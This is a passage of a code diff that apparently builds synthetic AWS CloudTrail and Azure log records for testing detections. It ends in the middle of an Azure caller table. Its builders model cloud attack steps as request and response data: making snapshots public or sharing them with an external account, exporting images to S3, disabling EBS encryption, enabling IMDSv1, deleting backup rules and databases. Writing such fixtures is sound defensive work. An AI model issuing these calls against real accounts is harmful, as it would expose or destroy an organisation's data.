+    return "ec2", "ImportSnapshot", req, resp, ec2_arn(ctx, "import-snapshot-task", "*")
+
+
+def b_instance_export_task(ctx, row, look):
+    iid = rid("i", row)
+    bucket = "ops-exports-7f3a"
+    task = rid("export-i", row)
+    req = {"instanceId": iid, "targetEnvironment": "vmware", "description": "db-02 export",
+           "exportToS3": {"diskImageFormat": "VMDK", "containerFormat": "ova", "s3Bucket": bucket, "s3Prefix": "exports/"}}
+    resp = ec2_ok(ctx, exportTask={"exportTaskId": task, "description": "db-02 export", "state": "active",
+                                   "instanceExport": {"instanceId": iid, "targetEnvironment": "vmware"},
+                                   "exportToS3": {"diskImageFormat": "vmdk", "containerFormat": "ova",
+                                                  "s3Bucket": bucket, "s3Key": f"exports/{task}.ova"}})
+    return "ec2", "CreateInstanceExportTask", req, resp, ec2_arn(ctx, "instance", iid)
+
+
+def b_export_image(ctx, row, look):
+    ami = rid("ami", row)
+    bucket = "ops-exports-7f3a"
+    req = {"ExportImageRequest": {"ImageId": ami, "DiskImageFormat": "VMDK", "RoleName": "vmimport",
+                                  "Description": "golden image export",
+                                  "S3ExportLocation": {"S3Bucket": bucket, "S3Prefix": "ami-exports/"}}}
+    resp = ec2_wrapped(ctx, "ExportImage", description="golden image export", diskImageFormat="vmdk",
+                       exportImageTaskId=rid("export-ami", row), imageId=ami, progress="0", roleName="vmimport",
+                       s3ExportLocation={"s3Bucket": bucket, "s3Prefix": "ami-exports/"}, status="active",
+                       statusMessage="validating")
+    return "ec2", "ExportImage", req, resp, ec2_arn(ctx, "image", ami)
+
+
+def b_store_image_task(ctx, row, look):
+    ami = rid("ami", row)
+    req = {"CreateStoreImageTaskRequest": {"ImageId": ami, "Bucket": "ami-archive-0c41"}}
+    return ("ec2", "CreateStoreImageTask", req, ec2_wrapped(ctx, "CreateStoreImageTask", objectKey=f"{ami}.bin"),
+            ec2_arn(ctx, "image", ami))
+
+
+def b_delete_snapshot(ctx, row, look):
+    snap = rid("snap", row)
+    return "ec2", "DeleteSnapshot", {"snapshotId": snap}, ec2_ok(ctx, _return=True), ec2_arn(ctx, "snapshot", snap)
+
+
+def b_deregister_image(ctx, row, look):
+    ami = rid("ami", row)
+    return "ec2", "DeregisterImage", {"imageId": ami}, ec2_ok(ctx, _return=True), ec2_arn(ctx, "image", ami)
+
+
+def b_disable_snapshot_bpa(ctx, row, look):
+    return ("ec2", "DisableSnapshotBlockPublicAccess", {"DisableSnapshotBlockPublicAccessRequest": ""},
+            ec2_wrapped(ctx, "DisableSnapshotBlockPublicAccess", state="unblocked"), ec2_arn(ctx, "*", "*"))
+
+
+def b_disable_image_bpa(ctx, row, look):
+    return ("ec2", "DisableImageBlockPublicAccess", {"DisableImageBlockPublicAccessRequest": ""},
+            ec2_wrapped(ctx, "DisableImageBlockPublicAccess", imageBlockPublicAccessState="unblocked"),
+            ec2_arn(ctx, "*", "*"))
+
+
+def b_create_volume(ctx, row, look):
+    az = ctx.region + "b"
+    snap = rid("snap", row)
+    vol = rid("vol", row)
+    if look:  # empty volume: no snapshot
+        req = {"size": 50, "availabilityZone": az, "volumeType": "gp3", "encrypted": True}
+        snap_resp, size = "", "50"
+    else:
+        req = {"snapshotId": snap, "availabilityZone": az, "volumeType": "gp3", "encrypted": True}
+        snap_resp, size = snap, "100"
+    resp = ec2_ok(ctx, volumeId=vol, size=size, snapshotId=snap_resp, availabilityZone=az, status="creating",
+                  createTime=ctx.ms(), volumeType="gp3", iops=3000, encrypted=True,
+                  masterEncryptionKeyId=f"arn:aws:kms:{ctx.region}:{OWN}:key/{uid('kms', 'ebs', ctx.region)}",
+                  tagSet={}, multiAttachEnabled=False, throughput=125)
+    return "ec2", "CreateVolume", req, resp, ec2_arn(ctx, "volume", "*")
+
+
+def b_attach_volume(ctx, row, look):
+    vol, iid = rid("vol", row), rid("i", row)
+    req = {"volumeId": vol, "instanceId": iid, "deviceName": "/dev/sdf"}
+    resp = ec2_ok(ctx, volumeId=vol, instanceId=iid, device="/dev/sdf", status="attaching", attachTime=ctx.ms(),
+                  deleteOnTermination=False)
+    return "ec2", "AttachVolume", req, resp, ec2_arn(ctx, "volume", vol)
+
+
+def b_detach_volume(ctx, row, look):
+    vol, iid = rid("vol", row), rid("i", row)
+    req = {"volumeId": vol, "force": False}
+    resp = ec2_ok(ctx, volumeId=vol, instanceId=iid, device="/dev/sdf", status="detaching",
+                  attachTime=ctx.ms(-86400 * 41), deleteOnTermination=False)
+    return "ec2", "DetachVolume", req, resp, ec2_arn(ctx, "volume", vol)
+
+
+def b_delete_volume(ctx, row, look):
+    vol = rid("vol", row)
+    return "ec2", "DeleteVolume", {"volumeId": vol}, ec2_ok(ctx, _return=True), ec2_arn(ctx, "volume", vol)
+
+
+def b_disable_ebs_encryption(ctx, row, look):
+    return ("ec2", "DisableEbsEncryptionByDefault", {"DisableEbsEncryptionByDefaultRequest": ""},
+            ec2_wrapped(ctx, "DisableEbsEncryptionByDefault", ebsEncryptionByDefault=False), ec2_arn(ctx, "*", "*"))
+
+
+def b_modify_ebs_kms(ctx, row, look):
+    key = f"arn:aws:kms:{ctx.region}:{EXT}:key/{uid('kms', 'external', row)}"
+    return ("ec2", "ModifyEbsDefaultKmsKeyId", {"ModifyEbsDefaultKmsKeyIdRequest": {"KmsKeyId": key}},
+            ec2_wrapped(ctx, "ModifyEbsDefaultKmsKeyId", kmsKeyId=key), ec2_arn(ctx, "*", "*"))
+
+
+def b_run_instances_imdsv1(ctx, row, look):
+    return run_instances(ctx, row, 1, "t3.medium", "optional", "legacy-app-01")
+
+
+def b_run_instances(ctx, row, look):
+    return run_instances(ctx, row, 2, "c6i.4xlarge", "required", "batch-worker")
+
+
+def b_request_spot(ctx, row, look):
+    ami, subnet, sg = rid("ami", row), rid("subnet", "prod-a"), rid("sg", "app")
+    spec = {"imageId": ami, "instanceType": "g4dn.4xlarge", "subnetId": subnet,
+            "groupSet": {"items": [{"groupId": sg}]}, "monitoring": {"enabled": False}}
+    req = {"spotPrice": "0.90", "instanceCount": 2, "type": "one-time", "launchSpecification": spec}
+    items = []
+    for i in range(2):
+        items.append({"spotInstanceRequestId": "sir-" + hx("sir", row, i, n=8), "spotPrice": "0.900000",
+                      "type": "one-time", "state": "open",
+                      "status": {"code": "pending-evaluation", "updateTime": ctx.ms(),
+                                 "message": "Your Spot request has been submitted for review, and is pending evaluation."},
+                      "launchSpecification": {"imageId": ami, "instanceType": "g4dn.4xlarge",
+                                              "placement": {"availabilityZone": ctx.region + "a"},
+                                              "monitoring": {"enabled": False}, "subnetId": subnet,
+                                              "groupSet": {"items": [{"groupId": sg, "groupName": "app"}]}},
+                      "createTime": ctx.ms(), "productDescription": "Linux/UNIX",
+                      "instanceInterruptionBehavior": "terminate"})
+    return ("ec2", "RequestSpotInstances", req, ec2_ok(ctx, spotInstanceRequestSet={"items": items}),
+            ec2_arn(ctx, "spot-instances-request", "*"))
+
+
+def b_create_fleet(ctx, row, look):
+    lt = rid("lt", row)
+    req = {"CreateFleetRequest": {
+        "Type": "instant",
+        "TargetCapacitySpecification": {"TotalTargetCapacity": 4, "DefaultTargetCapacityType": "on-demand"},
+        "LaunchTemplateConfigs": {"LaunchTemplateSpecification": {"LaunchTemplateId": lt, "Version": "$Latest"},
+                                  "Overrides": [{"InstanceType": "g5.xlarge", "tag": 1},
+                                                {"InstanceType": "g5.2xlarge", "tag": 2}],
+                                  "tag": 1},
+        "ClientToken": uid(ctx.key, "clientToken")}}
+    ids = [rid("i", row, i) for i in range(4)]
+    resp = ec2_wrapped(ctx, "CreateFleet", fleetId="fleet-" + uid(row, "fleet"), errorSet="",
+                       fleetInstanceSet={"item": {"lifecycle": "on-demand",
+                                                  "launchTemplateAndOverrides": {
+                                                      "launchTemplateSpecification": {"launchTemplateId": lt, "version": "1"},
+                                                      "overrides": {"instanceType": "g5.xlarge"}},
+                                                  "instanceIds": {"item": ids}, "instanceType": "g5.xlarge"}})
+    return "ec2", "CreateFleet", req, resp, ec2_arn(ctx, "fleet", "*")
+
+
+def b_instances_state(ctx, row, look, name, n, cur, prev, extra=None):
+    ids = [rid("i", row, i) for i in range(n)]
+    req = {"instancesSet": {"items": [{"instanceId": i} for i in ids]}}
+    if extra:
+        req.update(extra)
+    resp = ec2_ok(ctx, instancesSet={"items": [instance_state(i, cur, prev) for i in ids]})
+    return "ec2", name, req, resp, ec2_arn(ctx, "instance", ids[0])
+
+
+def b_user_data(ctx, row, look):
+    iid = rid("i", row)
+    return ("ec2", "ModifyInstanceAttribute", {"instanceId": iid, "userData": "<sensitiveDataRemoved>"},
+            ec2_ok(ctx, _return=True), ec2_arn(ctx, "instance", iid))
+
+
+def b_group_set(ctx, row, look):
+    iid = rid("i", row)
+    req = {"instanceId": iid, "groupSet": {"items": [{"groupId": rid("sg", "app")}, {"groupId": rid("sg", "debug-any")}]}}
+    return "ec2", "ModifyInstanceAttribute", req, ec2_ok(ctx, _return=True), ec2_arn(ctx, "instance", iid)
+
+
+def imds_options(tokens: str) -> dict:
+    return {"state": "pending", "httpTokens": tokens, "httpPutResponseHopLimit": 2, "httpEndpoint": "enabled",
+            "httpProtocolIpv6": "disabled", "instanceMetadataTags": "disabled"}
+
+
+def b_imds(ctx, row, look):
+    """Flat shape, as the normalizer reads it (see variants/ for the wrapped shape CloudTrail logs)."""
+    iid = rid("i", row)
+    tokens = "required" if look else "optional"
+    req = {"instanceId": iid, "httpTokens": tokens, "httpEndpoint": "enabled", "httpPutResponseHopLimit": 2}
+    resp = ec2_ok(ctx, instanceId=iid, instanceMetadataOptions=imds_options(tokens))
+    return "ec2", "ModifyInstanceMetadataOptions", req, resp, ec2_arn(ctx, "instance", iid)
+
+
+def b_imds_wrapped(ctx, row, look):
+    iid = rid("i", row)
+    tokens = "required" if look else "optional"
+    req = {"ModifyInstanceMetadataOptionsRequest": {"InstanceId": iid, "HttpTokens": tokens,
+                                                    "HttpEndpoint": "enabled", "HttpPutResponseHopLimit": 2}}
+    resp = ec2_wrapped(ctx, "ModifyInstanceMetadataOptions", instanceId=iid, instanceMetadataOptions=imds_options(tokens))
+    return "ec2", "ModifyInstanceMetadataOptions", req, resp, ec2_arn(ctx, "instance", iid)
+
+
+def b_associate_profile(ctx, row, look):
+    iid = rid("i", row)
+    req = {"AssociateIamInstanceProfileRequest": {"InstanceId": iid, "IamInstanceProfile": {"Name": "ec2-admin-profile"}}}
+    resp = ec2_wrapped(ctx, "AssociateIamInstanceProfile", iamInstanceProfileAssociation={
+        "associationId": rid("iip-assoc", row), "instanceId": iid, "state": "associating",
+        "iamInstanceProfile": {"arn": f"arn:aws:iam::{OWN}:instance-profile/ec2-admin-profile",
+                               "id": "AIPA" + b32("ip", "ec2-admin-profile", n=17)}})
+    return "ec2", "AssociateIamInstanceProfile", req, resp, ec2_arn(ctx, "instance", iid)
+
+
+def b_replace_profile(ctx, row, look):
+    iid = rid("i", row)
+    assoc = rid("iip-assoc", row, "old")
+    arn = f"arn:aws:iam::{OWN}:instance-profile/ec2-admin-profile"
+    req = {"ReplaceIamInstanceProfileAssociationRequest": {"AssociationId": assoc, "IamInstanceProfile": {"Arn": arn}}}
+    resp = ec2_wrapped(ctx, "ReplaceIamInstanceProfileAssociation", iamInstanceProfileAssociation={
+        "associationId": rid("iip-assoc", row, "new"), "instanceId": iid, "state": "associating",
+        "iamInstanceProfile": {"arn": arn, "id": "AIPA" + b32("ip", "ec2-admin-profile", n=17)}})
+    return "ec2", "ReplaceIamInstanceProfileAssociation", req, resp, ec2_arn(ctx, "instance", iid)
+
+
+def b_serial_console(ctx, row, look):
+    return ("ec2", "EnableSerialConsoleAccess", {"EnableSerialConsoleAccessRequest": ""},
+            ec2_wrapped(ctx, "EnableSerialConsoleAccess", serialConsoleAccessEnabled=True), ec2_arn(ctx, "*", "*"))
+
+
+def b_replace_root(ctx, row, look):
+    iid, snap = rid("i", row), rid("snap", row)
+    req = {"CreateReplaceRootVolumeTaskRequest": {"InstanceId": iid, "SnapshotId": snap,
+                                                  "DeleteReplacedRootVolume": False,
+                                                  "ClientToken": uid(ctx.key, "clientToken")}}
+    resp = ec2_wrapped(ctx, "CreateReplaceRootVolumeTask", replaceRootVolumeTask={
+        "replaceRootVolumeTaskId": rid("replacevol", row), "instanceId": iid, "taskState": "pending",
+        "startTime": ts(ctx.t), "tagSet": "", "snapshotId": snap, "deleteReplacedRootVolume": False})
+    return "ec2", "CreateReplaceRootVolumeTask", req, resp, ec2_arn(ctx, "instance", iid)
+
+
+def b_launch_template(ctx, row, look):
+    name = "web-lt-20261009"
+    req = {"CreateLaunchTemplateRequest": {
+        "LaunchTemplateName": name, "VersionDescription": "initial",
+        "LaunchTemplateData": {"ImageId": rid("ami", row), "InstanceType": "m6i.large",
+                               "UserData": "<sensitiveDataRemoved>",
+                               "IamInstanceProfile": {"Name": "app-instance-profile"},
+                               "SecurityGroupId": [{"tag": 1, "content": rid("sg", "app")}],
+                               "MetadataOptions": {"HttpTokens": "required"}},
+        "ClientToken": uid(ctx.key, "clientToken")}}
+    resp = ec2_wrapped(ctx, "CreateLaunchTemplate", launchTemplate={
+        "launchTemplateId": rid("lt", row), "launchTemplateName": name, "createTime": ts(ctx.t),
+        "createdBy": ctx.arn(), "defaultVersionNumber": 1, "latestVersionNumber": 1})
+    return "ec2", "CreateLaunchTemplate", req, resp, ec2_arn(ctx, "launch-template", "*")
+
+
+def b_launch_template_version(ctx, row, look):
+    lt = rid("lt", row)
+    profile_arn = f"arn:aws:iam::{OWN}:instance-profile/ec2-admin-profile"
+    req = {"CreateLaunchTemplateVersionRequest": {
+        "LaunchTemplateId": lt, "SourceVersion": "3", "VersionDescription": "hotfix",
+        "LaunchTemplateData": {"UserData": "<sensitiveDataRemoved>", "IamInstanceProfile": {"Arn": profile_arn}}}}
+    resp = ec2_wrapped(ctx, "CreateLaunchTemplateVersion", launchTemplateVersion={
+        "launchTemplateId": lt, "launchTemplateName": "batch-workers", "versionNumber": 4,
+        "versionDescription": "hotfix", "createTime": ts(ctx.t), "createdBy": ctx.arn(), "defaultVersion": False,
+        "launchTemplateData": {"imageId": rid("ami", row), "instanceType": "c6i.2xlarge",
+                               "userData": "<sensitiveDataRemoved>", "iamInstanceProfile": {"arn": profile_arn}}})
+    return "ec2", "CreateLaunchTemplateVersion", req, resp, ec2_arn(ctx, "launch-template", lt)
+
+
+def rbin_arn(ctx, ident):
+    return f"arn:aws:rbin:{ctx.region}:{OWN}:rule/{ident}"
+
+
+def rbin_id(row):
+    raw = b64("rbin", row, n=24).replace("+", "").replace("/", "")
+    return raw[:11]
+
+
+def b_rbin_delete(ctx, row, look):
+    ident = rbin_id(row)
+    return "rbin", "DeleteRule", {"identifier": ident}, None, rbin_arn(ctx, ident)
+
+
+def b_rbin_update(ctx, row, look):
+    ident = rbin_id(row)
+    req = {"identifier": ident, "retentionPeriod": {"retentionPeriodValue": 1, "retentionPeriodUnit": "DAYS"},
+           "description": "Match all snapshots", "resourceType": "EBS_SNAPSHOT"}
+    return "rbin", "UpdateRule", req, None, rbin_arn(ctx, ident)
+
+
+def b_db_snapshot_attr(ctx, row, look, mode):
+    ident = "orders-prod-manual-20261001"
+    if mode == "public":
+        req = {"dBSnapshotIdentifier": ident, "attributeName": "restore", "valuesToAdd": ["all"]}
+        values = ["all"]
+    elif look:
+        req = {"dBSnapshotIdentifier": ident, "attributeName": "restore", "valuesToRemove": [EXT]}
+        values = []
+    else:
+        req = {"dBSnapshotIdentifier": ident, "attributeName": "restore", "valuesToAdd": [EXT]}
+        values = [EXT]
+    resp = {"dBSnapshotIdentifier": ident, "dBSnapshotAttributes": [{"attributeName": "restore", "attributeValues": values}]}
+    return ("rds", "ModifyDBSnapshotAttribute", req, resp,
+            f"arn:aws:rds:{ctx.region}:{OWN}:snapshot:{ident}")
+
+
+def b_db_cluster_snapshot_attr(ctx, row, look):
+    ident = "billing-aurora-manual-20261002"
+    values = [OWN if look else EXT]
+    req = {"dBClusterSnapshotIdentifier": ident, "attributeName": "restore", "valuesToAdd": values}
+    resp = {"dBClusterSnapshotIdentifier": ident,
+            "dBClusterSnapshotAttributes": [{"attributeName": "restore", "attributeValues": values}]}
+    return ("rds", "ModifyDBClusterSnapshotAttribute", req, resp,
+            f"arn:aws:rds:{ctx.region}:{OWN}:cluster-snapshot:{ident}")
+
+
+def b_start_export(ctx, row, look):
+    src = f"arn:aws:rds:{ctx.region}:{OWN}:snapshot:orders-prod-manual-20261001"
+    role = f"arn:aws:iam::{OWN}:role/rds-s3-export"
+    key = f"arn:aws:kms:{ctx.region}:{OWN}:key/{uid('kms', 'export', ctx.region)}"
+    req = {"exportTaskIdentifier": "orders-export-1", "sourceArn": src, "s3BucketName": "analytics-drop-5e1d",
+           "iamRoleArn": role, "kmsKeyId": key, "s3Prefix": "rds/"}
+    resp = {"exportTaskIdentifier": "orders-export-1", "sourceArn": src, "exportOnly": [],
+            "snapshotTime": rds_date(ctx.t - dt.timedelta(days=2)), "s3Bucket": "analytics-drop-5e1d",
+            "s3Prefix": "rds/", "iamRoleArn": role, "kmsKeyId": key, "status": "STARTING", "percentProgress": 0,
+            "totalExtractedDataInGB": 0, "sourceType": "SNAPSHOT"}
+    return "rds", "StartExportTask", req, resp, src
+
+
+def b_create_db_snapshot(ctx, row, look):
+    ident, inst = "orders-prod-adhoc-1007", "orders-prod"
+    req = {"dBSnapshotIdentifier": ident, "dBInstanceIdentifier": inst}
+    return ("rds", "CreateDBSnapshot", req, db_snapshot(ctx, ident, inst, "creating"),
+            f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}")
+
+
+def b_create_db_cluster_snapshot(ctx, row, look):
+    ident, cl = "billing-aurora-adhoc-1008", "billing-aurora"
+    req = {"dBClusterSnapshotIdentifier": ident, "dBClusterIdentifier": cl}
+    return ("rds", "CreateDBClusterSnapshot", req, db_cluster_snapshot(ctx, ident, cl, "creating"),
+            f"arn:aws:rds:{ctx.region}:{OWN}:cluster:{cl}")
+
+
+def b_copy_db_snapshot(ctx, row, look):
+    target = "orders-prod-copy-1009"
+    auto = "rds:orders-prod-2026-10-09-03-12"
+    if look:  # same region: plain identifier, no sourceRegion
+        req = {"sourceDBSnapshotIdentifier": auto, "targetDBSnapshotIdentifier": target, "copyTags": True}
+        resp = db_snapshot(ctx, target, "orders-prod", "creating", stype="manual")
+    else:
+        src_region = other_region(ctx.region)
+        src_arn = f"arn:aws:rds:{src_region}:{OWN}:snapshot:{auto}"
+        req = {"sourceDBSnapshotIdentifier": src_arn, "targetDBSnapshotIdentifier": target, "copyTags": True}
+        resp = db_snapshot(ctx, target, "orders-prod", "pending", stype="manual", sourceRegion=src_region,
+                           sourceDBSnapshotIdentifier=src_arn, percentProgress=0)
+    return "rds", "CopyDBSnapshot", req, resp, f"arn:aws:rds:{ctx.region}:{OWN}:snapshot:{target}"
+
+
+def b_restore_instance(ctx, row, look):
+    inst, snap = "orders-restore-tmp", "orders-prod-manual-20261001"
+    req = {"dBInstanceIdentifier": inst, "dBSnapshotIdentifier": snap, "dBInstanceClass": "db.t3.large",
+           "dBSubnetGroupName": "db-public", "publiclyAccessible": True,
+           "vpcSecurityGroupIds": [rid("sg", "db-open")], "deletionProtection": False}
+    resp = db_instance(ctx, inst, "creating", dBInstanceClass="db.t3.large", publiclyAccessible=True,
+                       deletionProtection=False,
+                       vpcSecurityGroups=[{"vpcSecurityGroupId": rid("sg", "db-open"), "status": "active"}])
+    return "rds", "RestoreDBInstanceFromDBSnapshot", req, resp, f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}"
+
+
+def b_restore_cluster(ctx, row, look):
+    cl, snap = "billing-restore-tmp", "billing-aurora-manual-20261002"
+    req = {"dBClusterIdentifier": cl, "snapshotIdentifier": snap, "engine": "aurora-postgresql",
+           "engineVersion": "16.4", "dBSubnetGroupName": "db-private", "vpcSecurityGroupIds": [rid("sg", "db")]}
+    return ("rds", "RestoreDBClusterFromSnapshot", req, db_cluster(ctx, cl, "creating"),
+            f"arn:aws:rds:{ctx.region}:{OWN}:cluster:{cl}")
+
+
+def b_delete_db_snapshot(ctx, row, look):
+    ident = "orders-prod-manual-20260915"
+    return ("rds", "DeleteDBSnapshot", {"dBSnapshotIdentifier": ident},
+            db_snapshot(ctx, ident, "orders-prod", "deleted"), f"arn:aws:rds:{ctx.region}:{OWN}:snapshot:{ident}")
+
+
+def b_delete_db_instance(ctx, row, look):
+    inst = "reporting-replica"
+    req = {"dBInstanceIdentifier": inst, "skipFinalSnapshot": True, "deleteAutomatedBackups": True}
+    return ("rds", "DeleteDBInstance", req, db_instance(ctx, inst, "deleting", deletionProtection=False),
+            f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}")
+
+
+def b_delete_db_cluster(ctx, row, look):
+    cl = "billing-aurora"
+    return ("rds", "DeleteDBCluster", {"dBClusterIdentifier": cl, "skipFinalSnapshot": True},
+            db_cluster(ctx, cl, "deleting"), f"arn:aws:rds:{ctx.region}:{OWN}:cluster:{cl}")
+
+
+def b_modify_db(ctx, row, look, field):
+    inst = "orders-prod"
+    if field == "deletionProtection":
+        value = bool(look)
+        resp = db_instance(ctx, inst, "available", deletionProtection=value)
+    elif field == "backupRetentionPeriod":
+        value = 7 if look else 0
+        resp = db_instance(ctx, inst, "modifying", backupRetentionPeriod=value)
+    else:
+        value = not look
+        resp = db_instance(ctx, inst, "modifying", publiclyAccessible=value)
+    req = {"dBInstanceIdentifier": inst, field: value, "applyImmediately": True, "allowMajorVersionUpgrade": False}
+    return "rds", "ModifyDBInstance", req, resp, f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}"
+
+
+RUNNING, PENDING, STOPPING, STOPPED, SHUTTING = (16, "running"), (0, "pending"), (64, "stopping"), (80, "stopped"), (32, "shutting-down")
+
+AWS_BUILDERS = {
+    "aws.ec2.snapshot_public": lambda c, r, l: b_snapshot_attribute(c, r, l, "public"),
+    "aws.ec2.snapshot_shared": lambda c, r, l: b_snapshot_attribute(c, r, l, "external"),
+    "aws.ec2.snapshot_share_removed": lambda c, r, l: b_snapshot_attribute(c, r, l, "removed"),
+    "aws.ec2.image_public": lambda c, r, l: b_image_attribute(c, r, l, "public"),
+    "aws.ec2.image_shared": lambda c, r, l: b_image_attribute(c, r, l, "external"),
+    "aws.ec2.create_snapshot": b_create_snapshot,
+    "aws.ec2.create_snapshots": b_create_snapshots,
+    "aws.ec2.copy_snapshot_cross_region": lambda c, r, l: b_copy_snapshot(c, r, l, True),
+    "aws.ec2.copy_snapshot": lambda c, r, l: b_copy_snapshot(c, r, l, False),
+    "aws.ec2.create_image": b_create_image,
+    "aws.ec2.copy_image": b_copy_image,
+    "aws.ec2.register_image": b_register_image,
+    "aws.ec2.import_image": b_import_image,
+    "aws.ec2.import_snapshot": b_import_snapshot,
+    "aws.ec2.instance_export_task": b_instance_export_task,
+    "aws.ec2.export_image": b_export_image,
+    "aws.ec2.store_image_task": b_store_image_task,
+    "aws.ec2.delete_snapshot": b_delete_snapshot,
+    "aws.ec2.deregister_image": b_deregister_image,
+    "aws.ec2.disable_snapshot_block_public_access": b_disable_snapshot_bpa,
+    "aws.ec2.disable_image_block_public_access": b_disable_image_bpa,
+    "aws.ec2.create_volume_from_snapshot": b_create_volume,
+    "aws.ec2.attach_volume": b_attach_volume,
+    "aws.ec2.detach_volume": b_detach_volume,
+    "aws.ec2.delete_volume": b_delete_volume,
+    "aws.ec2.disable_ebs_encryption_by_default": b_disable_ebs_encryption,
+    "aws.ec2.modify_ebs_default_kms_key": b_modify_ebs_kms,
+    "aws.ec2.run_instances_imdsv1": b_run_instances_imdsv1,
+    "aws.ec2.run_instances": b_run_instances,
+    "aws.ec2.request_spot_instances": b_request_spot,
+    "aws.ec2.create_fleet": b_create_fleet,
+    "aws.ec2.terminate_instances": lambda c, r, l: b_instances_state(c, r, l, "TerminateInstances", 3, SHUTTING, RUNNING),
+    "aws.ec2.stop_instances": lambda c, r, l: b_instances_state(c, r, l, "StopInstances", 1, STOPPING, RUNNING,
+                                                                {"force": False}),
+    "aws.ec2.start_instances": lambda c, r, l: b_instances_state(c, r, l, "StartInstances", 1, PENDING, STOPPED),
+    "aws.ec2.modify_instance_user_data": b_user_data,
+    "aws.ec2.modify_instance_attribute": b_group_set,
+    "aws.ec2.imds_v1_enabled": b_imds,
+    "aws.ec2.associate_instance_profile": b_associate_profile,
+    "aws.ec2.replace_instance_profile": b_replace_profile,
+    "aws.ec2.enable_serial_console": b_serial_console,
+    "aws.ec2.replace_root_volume": b_replace_root,
+    "aws.ec2.create_launch_template": b_launch_template,
+    "aws.ec2.create_launch_template_version": b_launch_template_version,
+    "aws.rbin.delete_rule": b_rbin_delete,
+    "aws.rbin.update_rule": b_rbin_update,
+    "aws.rds.db_snapshot_public": lambda c, r, l: b_db_snapshot_attr(c, r, l, "public"),
+    "aws.rds.db_snapshot_shared": lambda c, r, l: b_db_snapshot_attr(c, r, l, "external"),
+    "aws.rds.db_cluster_snapshot_shared": b_db_cluster_snapshot_attr,
+    "aws.rds.start_export_task": b_start_export,
+    "aws.rds.create_db_snapshot": b_create_db_snapshot,
+    "aws.rds.create_db_cluster_snapshot": b_create_db_cluster_snapshot,
+    "aws.rds.copy_db_snapshot_cross_region": b_copy_db_snapshot,
+    "aws.rds.restore_db_instance_from_snapshot": b_restore_instance,
+    "aws.rds.restore_db_cluster_from_snapshot": b_restore_cluster,
+    "aws.rds.delete_db_snapshot": b_delete_db_snapshot,
+    "aws.rds.delete_db_instance": b_delete_db_instance,
+    "aws.rds.delete_db_cluster": b_delete_db_cluster,
+    "aws.rds.deletion_protection_disabled": lambda c, r, l: b_modify_db(c, r, l, "deletionProtection"),
+    "aws.rds.backup_retention_zero": lambda c, r, l: b_modify_db(c, r, l, "backupRetentionPeriod"),
+    "aws.rds.instance_made_public": lambda c, r, l: b_modify_db(c, r, l, "publiclyAccessible"),
+}
+
+SERVICE_EVENT_ROWS = {"aws.ec2.shared_snapshot_copy_initiated": "SharedSnapshotCopyInitiated",
+                      "aws.ec2.shared_snapshot_volume_created": "SharedSnapshotVolumeCreated"}
+
+
+def service_event(key: str, t: dt.datetime, region: str, name: str, snapshot: str, actor_account: str) -> dict:
+    """EBS shared-snapshot service event (AWS docs 'shared-snapshot-cloudtrail-logging'; stratus St1)."""
+    return {
+        "eventVersion": "1.08",
+        "userIdentity": {"type": "AWSAccount", "accountId": actor_account, "invokedBy": "ec2.amazonaws.com"},
+        "eventTime": ts(t),
+        "eventSource": "ec2.amazonaws.com",
+        "eventName": name,
+        "awsRegion": region,
+        "sourceIPAddress": "ec2.amazonaws.com",
+        "userAgent": "ec2.amazonaws.com",
+        "requestParameters": None,
+        "responseElements": None,
+        "eventID": uid(key, "eventID"),
+        "readOnly": False,
+        "eventType": "AwsServiceEvent",
+        "managementEvent": True,
+        "recipientAccountId": OWN,
+        "serviceEventDetails": {"snapshotId": snapshot},
+        "eventCategory": "Management",
+    }
+
+
+def negative_kind(path: str) -> str | None:
+    stem = path.rsplit("/", 1)[-1].removesuffix(".json")
+    if stem.endswith("-dryrun"):
+        return "dryrun"
+    if stem.endswith("-failed") or stem.endswith("-unauthorized"):
+        return "denied"
+    return None
+
+
+def build_aws(row_id: str, ctx: Ctx, look: bool, error_kind: str | None) -> dict:
+    service, name, req, resp, res_arn = AWS_BUILDERS[row_id](ctx, row_id, look)
+    error = None
+    if error_kind == "dryrun":
+        error = DRYRUN
+    elif error_kind == "denied":
+        error = auth_error(ctx, service, name, res_arn)
+    return ct_record(ctx, service, name, req, resp, error)
+
+
+# ------------------------------------------------------------------------------------------------
+# time / principal slots
+# ------------------------------------------------------------------------------------------------
+
+def slot_time(k: int, n: int, hour: int, key: str) -> dt.datetime:
+    """File k of n: its own day in October 2026; a principal's files are >24 h apart."""
+    day = 1 + (k * 31) // n
+    return dt.datetime(2026, 10, day, hour, day, num(key, "sec", mod=60), tzinfo=UTC)
+
+
+# ------------------------------------------------------------------------------------------------
+# Azure
+# ------------------------------------------------------------------------------------------------
+
+ROLE_DEFS = {
+    "Owner": "8e3af657a8ff443ca75c2fe8c4bcb635",
+    "Contributor": "b24988ac618042a0ab8820f7382dd24c",
+    "Virtual Machine Contributor": "9980e02cc2be4d7394e8173b1dc7cf3c",
+}
+APP_AZ_CLI = "04b07795-8ddb-461a-bbee-02f9e1bf7b46"
+APP_PORTAL = "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"
+APP_PWSH = "1950a258-227b-4e31-a9cf-717495945fc2"
+
+AZ_CALLERS = {
+    "alice": dict(kind="user", upn="alice@contoso.com", given="Alice", surname="Martin", appid=APP_AZ_CLI,
+                  ip="198.51.100.44", role="Contributor", scope="sub", hour=8),
+    "bob": dict(kind="user", upn="bob@contoso.com", given="Bob", surname="Keller", appid=APP_PORTAL,
+                ip="203.0.113.61", role="Virtual Machine Contributor", scope="rg", hour=13),
+    "dana": dict(kind="user", upn="dana.admin@contoso.com", given="Dana", surname="Okafor", appid=APP_PWSH,
+                 ip="192.0.2.33", role="Owner", scope="sub", hour=10),
+    "guest": dict(kind="user", upn="mallory_fabrikam.com#EXT#@contoso.onmicrosoft.com", given="Mallory",
+                  surname="Reyes", email="mallory@fabrikam.com", guest=True, appid=APP_AZ_CLI,
+                  ip="192.0.2.199", role="Contributor", scope="rg", hour=22),
+    "sp": dict(kind="app", name="sp-github-deployer", appid="3f9c2a71-5d4e-4b8a-9e61-0c7d2b5a8f14",
+               ip="203.0.113.171", role="Contributor", scope="sub", hour=3),
+    "mi": dict(kind="mi", name="id-runbook-ops", appid="6b1e8d42-9a3c-4f70-b25d-e8c41a7f3d09",
